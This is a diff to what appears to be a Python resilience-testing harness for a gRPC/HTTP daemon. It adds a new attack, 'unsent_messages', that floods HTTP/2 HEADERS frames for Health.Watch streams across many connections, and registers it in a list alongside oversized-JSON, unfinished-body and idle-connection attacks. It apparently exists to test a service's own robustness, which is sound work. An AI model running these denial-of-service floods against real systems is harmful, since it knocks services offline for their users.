@@ -150,6 +150,20 @@ def reset_watches(daemon, times):
     time.sleep(1)
 
 
+def unsent_messages(daemon, times):
+    """Calls of Health.Watch without a token whose message never comes."""
+    connections = []
+    for _ in range(10 * times):
+        connection = Http2(daemon.grpc)
+        connections.append(connection)
+        head = connection.headers("/grpc.health.v1.Health/Watch")
+        try:
+            connection.socket.sendall(b"".join(Http2.frame(1, 4, stream, head) for stream in range(1, 2200, 2)))
+        except OSError:
+            pass  # cut
+    time.sleep(3)
+
+
 def large_json(daemon, times):
     body = b'{"case":{"lattice":{"frame":{"nodes":[' + b"{}," * 1_390_000 + b"{}]}}}}"
     together(times, lambda i: answer(post(daemon, "Cases/CheckCase", body, daemon.token)))
@@ -205,7 +219,8 @@ def large_checks(daemon, times):
 
 
 ATTACKS = [empty_points_grpc, empty_points_http, unfinished_messages, trailers, unfinished_bodies,
-           unfinished_bodies_of_a_caller, reset_watches, large_json, previews, exports, idle_connections, large_checks]
+           unfinished_bodies_of_a_caller, reset_watches, unsent_messages, large_json, previews, exports,
+           idle_connections, large_checks]
 
 
 class Daemon:
@@ -323,7 +338,7 @@ def main():
     parser.add_argument("daemon")
     parser.add_argument("--times", type=int, default=1)
     parser.add_argument("names", nargs="*")
-    given = parser.parse_args()
+    given = parser.parse_intermixed_args()
     most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
     resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
     signal.signal(signal.SIGTERM, lambda *_: sys.exit(1))
